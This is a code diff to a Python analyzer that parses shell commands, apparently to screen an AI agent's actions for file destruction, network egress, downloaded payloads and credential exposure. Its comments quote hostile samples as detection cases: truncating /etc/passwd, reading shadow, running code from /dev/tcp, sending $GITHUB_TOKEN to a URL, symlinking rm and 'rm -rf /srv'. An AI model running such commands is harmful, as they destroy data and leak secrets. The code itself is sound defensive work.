@@ -18,7 +18,7 @@ import dataclasses
 import functools
 import posixpath
 import re
-from collections.abc import Sequence
+from collections.abc import Mapping, Sequence
 from dataclasses import dataclass, field
 
 import tree_sitter_bash
@@ -250,6 +250,8 @@ def _walk(ctx: Context, node: Node, stdin: str | None) -> None:
         body = node.child_by_field_name("body") or (
             node.named_children[0] if node.named_children else None
         )
+        if body is not None and body.type in _REDIRECTS:
+            body = None  # `> /etc/passwd` alone: no command, and the file is still truncated
         feds: list[Fed] = []
         extra: list[Node] = []
         # The grammar hangs `cd /etc && cat < shadow`'s redirection on the whole list: it is
@@ -289,6 +291,7 @@ def _walk(ctx: Context, node: Node, stdin: str | None) -> None:
 
 
 _SUBSHELLS = frozenset({"subshell", "command_substitution", "process_substitution"})
+_REDIRECTS = frozenset({"file_redirect", "heredoc_redirect", "herestring_redirect"})
 
 
 def _declaration(ctx: Context, node: Node) -> None:
@@ -506,6 +509,8 @@ def _file_effects(ctx: Context, node: Node) -> None:
         append = operator in (">>", "&>>")
         written = commands.redirect(path, append, ctx.span(node))
         ctx.effects.extend(_under(ctx, e) for e in written)
+    elif path is not None and path.startswith(commands.NETWORK_FILES):  # 3<> /dev/tcp/…
+        ctx.effects.append(commands.network_file(path, ctx.span(node), sends="<" not in operator))
     elif operator == "<" and target is not None and target.type != "process_substitution":
         ctx.effects.append(_input(ctx, path, _shape(ctx, target), ctx.span(node)))
 
@@ -538,6 +543,8 @@ def _redirect(
             return None
         if target.type == "process_substitution":  # < <(curl …)
             return Fed(None, _payload(ctx, target) or "dynamic")
+        if path is not None and path.startswith(commands.NETWORK_FILES):
+            return Fed(None, "downloaded")  # bash < /dev/tcp/HOST/PORT runs what arrives
         key = posixpath.normpath(path) if path is not None else None
         if key is not None and key in ctx.scope.payload_files:  # curl … > x; bash < x
             return Fed(None, ctx.scope.payload_files[key])
@@ -753,6 +760,14 @@ def _invoke(
     )
     # Nested shell text (`bash -c`, `find -exec`, `xargs`) runs where this command runs.
     found = commands.effects_of(run, functools.partial(analyze, cwd=where))
+    strings = [
+        r for r in node.children_by_field_name("redirect") if r.type == "herestring_redirect"
+    ]
+    given = _secrets_given(ctx, name, [*node.children_by_field_name("argument"), *extra, *strings])
+    if given and (name in _PRINTERS or any("egress" in e.flags for e in found)):
+        # echo $AWS_SECRET_ACCESS_KEY, curl https://x.example/$GITHUB_TOKEN: the value is
+        # printed for the agent to read, or sent out
+        found = [commands.flagged(e, "credential_access") for e in found]
     if name == "tee":  # echo … | tee x.sh, tee x.sh <<EOF: what it reads, it writes
         for a in args:
             if a is None or not a.startswith("-"):
@@ -760,11 +775,69 @@ def _invoke(
     for e in found:  # curl -o x.sh, wget URL: the file holds the download
         if e.attributes.get("downloaded") and e.target.kind == "file":
             _record(ctx, e.target.id, None, append=False, payload="downloaded")
+        elif name in _PLACERS and e.verb in ("create", "overwrite") and e.target.kind == "file":
+            # ln -s /bin/rm ls; ./ls -rf /srv: what runs is whatever was put there
+            _record(ctx, e.target.id, None, append=False, payload=None)
     if name in ("cd", "pushd", "popd"):  # later relative paths are under the new directory
         _moved(ctx, name, args)
     else:
         found = [_under(ctx, e) for e in found]
     ctx.effects.extend(found)
+
+
+#: Programs that put a file at a name: run by that name later in the line, it is unknown.
+_PLACERS = frozenset({"ln", "cp", "mv", "install", "rsync", "scp"})
+#: Programs that print their words for the agent to read.
+_PRINTERS = frozenset({"echo", "printf", "print", "cat"})
+#: Options through which a program authenticates itself with a secret (not counted): the
+#: secret goes where the program is pointed, as its own key does (`curl --cert`).
+_AUTH_OPTIONS = frozenset(
+    "-u --user -U --proxy-user --oauth2-bearer --password --http-password --proxy-password "
+    "--ftp-password -a --auth --auth-type".split()
+)
+_AUTH_HEADER = re.compile(r"^\s*[\w-]*(auth|token|key|bearer|cookie|secret|session)[\w-]*\s*[:=]",
+                          re.IGNORECASE)  # fmt: skip
+
+
+def _secrets_given(ctx: Context, name: str, words: Sequence[Node]) -> list[str]:
+    """The secret-named variables expanded into a command's words, except as the value of an
+    authentication option (``curl -u "u:$PASS"``, ``-H "Authorization: Bearer $TOKEN"``)."""
+    out: list[str] = []
+    previous = ""
+    for word in words:
+        text = _source(ctx, word).replace('"', "").replace("'", "")
+        option, _, attached = text.partition("=") if text.startswith("--") else (text, "", "")
+        header = (
+            text
+            if previous in ("-H", "--header") or name in ("http", "https", "xh")
+            else attached
+            if option == "--header"
+            else text[2:]
+            if text.startswith("-H")
+            else None
+        )
+        authenticates = (
+            previous in _AUTH_OPTIONS
+            or (bool(attached) and option in _AUTH_OPTIONS)
+            or (header is not None and bool(_AUTH_HEADER.match(header)))
+        )
+        previous = text
+        if not authenticates:
+            out.extend(
+                v for v in _expanded(ctx, word)
+                if secrets.secret_variable(v)
+            )  # fmt: skip
+    return out
+
+
+def _expanded(ctx: Context, node: Node) -> list[str]:
+    """The names of the variables a word expands (not inside its command substitutions)."""
+    if node.type in ("simple_expansion", "expansion"):
+        found = next((c for c in node.children if c.type == "variable_name"), None)
+        return [_source(ctx, found)] if found is not None else []
+    if node.type in ("command_substitution", "process_substitution"):
+        return []
+    return [v for child in node.named_children for v in _expanded(ctx, child)]
 
 
 def _substitutions(node: Node) -> list[Node]:
@@ -799,12 +872,66 @@ class ShellAnalyzer:
         """Effects of the action's command line."""
         # Where the agent says the command runs: it only adds flags to relative paths (a path
         # is also judged as written), so a false `cwd` hides nothing.
-        cwd = action.input.get("cwd")
+        given = action.input
+        cwd = given.get("cwd")
         start = cwd if isinstance(cwd, str) and cwd.startswith(("/", "~")) else None
+        # Every field a runner may take the command from counts (`{"command": "ls", "script":
+        # "rm -rf /srv"}`), with the arguments, input, environment and shell given beside it.
+        found: list[Effect] = [*_beside(given)]
+        extra = _arguments(given)
+        stdin = next((given[k] for k in _STDIN_KEYS if k in given), None)
+        seen = False
         for key in ("command", "cmd", "script"):
-            value = action.input.get(key)
-            if isinstance(value, str):
-                return analyze(value, key, cwd=start)
+            value = given.get(key)
             if isinstance(value, list) and all(isinstance(v, str) for v in value):
-                return analyze(" ".join(shlex_quote(v) for v in value), key, cwd=start)
-        return [commands.dynamic("no command in the input", None)]
+                value = " ".join(shlex_quote(v) for v in value)
+            if not isinstance(value, str):
+                continue
+            seen = True
+            text = f"{value} {extra}" if extra else value
+            if isinstance(stdin, str) and stdin:  # what the command reads, as a here-string
+                fed = f"<<< {shlex_quote(stdin)}"
+                text = f"{text} {fed}" if not _COMPOUND.search(text) else f"{{ {text}\n}} {fed}"
+            found.extend(analyze(text, key, cwd=start))
+        if not seen:
+            return [commands.dynamic("no command in the input", None)]
+        return found
+
+
+#: Input fields through which a runner may feed the command its input.
+_STDIN_KEYS = ("stdin", "input")
+#: Text joining several commands: a here-string given beside it goes to the group.
+_COMPOUND = re.compile(r"[;&|\n`$()<>{}]")
+_SHELL_NAMES = frozenset({"sh", "bash", "dash", "zsh", "ksh", "ash", "busybox"})
+
+
+def _arguments(given: Mapping[str, object]) -> str:
+    """``{"command": "rm", "args": ["-rf", "/srv"]}``: the arguments a runner appends."""
+    for key in ("args", "argv", "arguments"):
+        value = given.get(key)
+        if isinstance(value, str):
+            return shlex_quote(value)
+        if isinstance(value, list):
+            return " ".join(shlex_quote(v) if isinstance(v, str) else "$X" for v in value)
+    return ""
+
+
+def _beside(given: Mapping[str, object]) -> list[Effect]:
+    """What an environment or a shell given beside the command can make it run."""
+    out: list[Effect] = []
+    for key in ("env", "environment", "envs", "env_vars"):
+        value = given.get(key)
+        if isinstance(value, Mapping):
+            runs = sorted(str(k) for k in value if commands.runs_program(str(k)))
+            if runs:
+                why = f"the input's {key} sets {', '.join(runs)}, which can make it run any program"
+                out.append(commands.dynamic(why, None))
+        elif value is not None and not isinstance(value, str):
+            out.append(commands.dynamic(f"the input's {key} is not a mapping of names", None))
+    shell = given.get("shell")
+    if shell is not None and not (
+        isinstance(shell, bool)
+        or (isinstance(shell, str) and posixpath.basename(shell) in _SHELL_NAMES)
+    ):
+        out.append(commands.dynamic(f"the command runs under {shell!r}, not a shell", None))
+    return out
